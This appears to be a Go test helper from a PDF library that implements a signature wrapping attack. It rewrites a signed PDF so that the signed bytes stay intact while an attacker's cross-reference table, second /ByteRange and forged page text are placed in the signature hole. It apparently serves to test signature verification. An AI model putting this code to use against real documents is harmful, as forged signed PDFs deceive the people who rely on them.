package signaturetest

import (
	"bytes"
	"fmt"
	"strings"

	"github.com/motcua/motcua/internal/pdf"
)

// Wrap is the signature wrapping attack. The second signed range moves towards the end of the file, the place where it
// stood is filled with an object and a cross-reference table of the attacker's at the very offset that the signed
// startxref names, and a second /ByteRange says where the range went. The signed bytes stay as they are. The file must
// end with the signature's own revision and have a cross-reference table.
func Wrap(signed []byte, text string) ([]byte, error) {
	p, err := find(signed)
	if err != nil {
		return nil, err
	}
	doc, err := pdf.Open(bytes.NewReader(signed), int64(len(signed)), pdf.Limits{})
	if err != nil {
		return nil, err
	}
	section := doc.Sections()[0]
	if section.Stream || p.numbers[2]+p.numbers[3] != int64(len(signed)) || section.Pos < p.numbers[2] {
		return nil, ErrTarget
	}
	_, page, err := doc.FirstPage()
	if err != nil {
		return nil, err
	}
	content, ok := page["Contents"].(pdf.Ref)
	if !ok {
		return nil, ErrTarget
	}
	forged := fmt.Sprintf("BT /F1 24 Tf 72 720 Td <%X> Tj ET\n", text)
	w := wrapper{signed: signed, p: p, doc: doc, table: int(section.Pos)}
	return w.build(content, forged)
}

type wrapper struct {
	signed []byte
	p      placed
	doc    *pdf.Document
	table  int // offset of the signed cross-reference table, where the attacker's has to stand
}

func (w *wrapper) build(content pdf.Ref, forged string) ([]byte, error) {
	padded := string(w.signed[w.p.contents+1 : w.p.closes-1])
	message := strings.TrimRight(padded, "0")
	message += strings.Repeat("0", len(message)%2)
	// The hole begins as it did, then goes on with the dictionary as it went on, and ends it with a range of its own.
	const width = 60
	rest := w.signed[w.p.closes:]
	rest = rest[:max(0, bytes.Index(rest, []byte("endobj")))]
	rest = bytes.TrimSuffix(bytes.TrimSpace(rest), []byte(">>"))
	head := "<" + message + ">" + string(rest) + " /ByteRange "
	var hole bytes.Buffer
	hole.WriteString(head)
	rangeAt := hole.Len()
	hole.WriteString(strings.Repeat(" ", width) + ">>\nendobj\n")
	object := w.p.contents + hole.Len()
	fmt.Fprintf(&hole, "%d %d obj\n<</Length %d>>\nstream\n%sendstream\nendobj\n", content.Num, content.Gen, len(forged), forged)
	if w.p.contents+hole.Len() > w.table {
		return nil, ErrTarget
	}
	hole.WriteString(strings.Repeat(" ", w.table-w.p.contents-hole.Len()))
	hole.WriteString("xref\n")
	for num := 1; num < w.doc.Objects(); num++ {
		pos, ok := w.doc.Position(num)
		if num == content.Num {
			pos = int64(object)
		}
		if ok && pos > int64(w.p.closes) {
			pos += 5_000_000_000 // moved; corrected below, when the length is known
		}
		if ok {
			fmt.Fprintf(&hole, "%d 1\n%010d 00000 n\r\n", num, pos)
		}
	}
	trailer := w.doc.Trailer()
	root := trailer["Root"].(pdf.Ref)
	fmt.Fprintf(&hole, "trailer\n<</Size %d /Root %d %d R>>\n", w.doc.Objects(), root.Num, root.Gen)
	shift := int64(w.p.contents + hole.Len() - w.p.closes)
	text := hole.Bytes()
	copy(text[rangeAt:], fmt.Sprintf("[0 %d %d %d]", w.p.numbers[1], w.p.numbers[2]+shift, w.p.numbers[3]))
	for num := 1; num < w.doc.Objects(); num++ {
		pos, ok := w.doc.Position(num)
		if ok && pos > int64(w.p.closes) {
			text = bytes.Replace(text, fmt.Appendf(nil, "%010d", pos+5_000_000_000), fmt.Appendf(nil, "%010d", pos+shift), 1)
		}
	}
	out := append(bytes.Clone(w.signed[:w.p.contents]), text...)
	return append(out, w.signed[w.p.closes:]...), nil
}
